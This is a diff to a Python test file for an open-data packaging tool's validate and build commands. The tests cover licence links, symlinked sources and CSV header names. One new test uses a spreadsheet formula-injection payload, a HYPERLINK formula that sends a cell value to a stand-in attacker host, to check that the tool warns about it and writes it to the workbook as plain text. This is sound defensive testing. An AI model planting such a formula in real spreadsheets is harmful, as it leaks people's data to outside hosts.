@@ -6,6 +6,8 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+from openpyxl import load_workbook
+
 from opendata.build import build
 from opendata.validate import ValidationReport, ValidPackage
 from tests.helpers import run_cli
@@ -34,7 +36,9 @@ def test_a_licence_path_that_is_no_web_address_is_an_error(plan_copy, tmp_path):
         checked.stdout
     )
     in_ukrainian = run_cli("validate", plan_copy)
-    assert f"Шлях ліцензії «Creative Commons Attribution 4.0» у «licenses» — «{SCRIPT}»" in in_ukrainian.stdout
+    assert f"Шлях ліцензії «Creative Commons Attribution 4.0» у «licenses» — «{SCRIPT}»" in (
+        in_ukrainian.stdout
+    )
     built = run_cli("build", plan_copy, "--out", tmp_path / "dist")
     assert built.returncode == 1 and not (tmp_path / "dist" / "index.html").exists()
 
@@ -53,7 +57,8 @@ def test_the_plan_page_links_only_a_web_address_of_the_licence(plan_copy, tmp_pa
 def test_the_plan_page_links_a_licence_at_a_web_address(plan_copy, tmp_path):
     run_cli("build", plan_copy, "--out", tmp_path / "dist")
     page = (tmp_path / "dist" / "index.html").read_text(encoding="utf-8")
-    assert '<a href="https://creativecommons.org/licenses/by/4.0/">Creative Commons Attribution 4.0</a>' in page
+    link = '<a href="https://creativecommons.org/licenses/by/4.0/">Creative Commons Attribution 4.0</a>'
+    assert link in page
 
 
 def test_a_source_linked_to_a_file_outside_the_package_is_refused(plan_copy, tmp_path):
@@ -70,7 +75,7 @@ def test_a_source_linked_to_a_file_outside_the_package_is_refused(plan_copy, tmp
     assert f"Fix: Put the file itself (a copy, not a link) in place of the link «{SOURCE}»" in checked.stdout
     built = run_cli("build", plan_copy, "--out", tmp_path / "dist")
     assert built.returncode == 1
-    copied = [p for p in (tmp_path / "dist").rglob("*") if p.is_file()] if (tmp_path / "dist").exists() else []
+    copied = [p for p in tmp_path.joinpath("dist").rglob("*") if p.is_file()]
     assert not any(b"hunter2" in p.read_bytes() for p in copied)
 
 
@@ -94,3 +99,33 @@ def test_a_link_that_stays_inside_the_package_is_fine(plan_copy):
     (plan_copy / "people.csv").symlink_to(plan_copy / "copies" / "people.csv")
     checked = run_cli("validate", plan_copy, "--lang", "en")
     assert checked.returncode == 0, checked.stdout
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+
+
+def add_column_named(package: Path, table: str, name: str) -> None:
+    schema_path = package / "schemas" / f"{table}.json"
+    schema = json.loads(schema_path.read_text(encoding="utf-8"))
+    schema["fields"].append({"name": name, "type": "string"})
+    schema_path.write_text(json.dumps(schema, ensure_ascii=False, indent=2), encoding="utf-8")
+    lines = (package / f"{table}.csv").read_text(encoding="utf-8").splitlines()
+    quoted = '"' + name.replace('"', '""') + '"'
+    rows = [f"{lines[0]},{quoted}", *(f"{line}," for line in lines[1:])]
+    (package / f"{table}.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
+
+
+def test_a_field_named_like_a_formula_is_a_warning_and_text_in_the_workbook(plan_copy, tmp_path):
+    """The workbook's header cell was a live formula: a link that sent the row's id away."""
+    add_column_named(plan_copy, "people", FORMULA)
+    checked = run_cli("validate", plan_copy, "--lang", "en")
+    assert checked.returncode == 0, checked.stdout
+    assert (
+        f"! row 1, field «{FORMULA}»: The name of field «{FORMULA}» starts with «=»: Excel opening the CSV "
+        "runs the header as a formula" in checked.stdout
+    )
+    assert "Fix: Give the field a name that starts with a letter" in checked.stdout
+    built = run_cli("build", plan_copy, "--out", tmp_path / "dist")
+    assert built.returncode == 0, built.stderr
+    header = load_workbook(tmp_path / "dist" / "kolomyia-communication-plan-2021.xlsx")["people"][1]
+    assert header[-1].value == FORMULA and header[-1].data_type == "s"
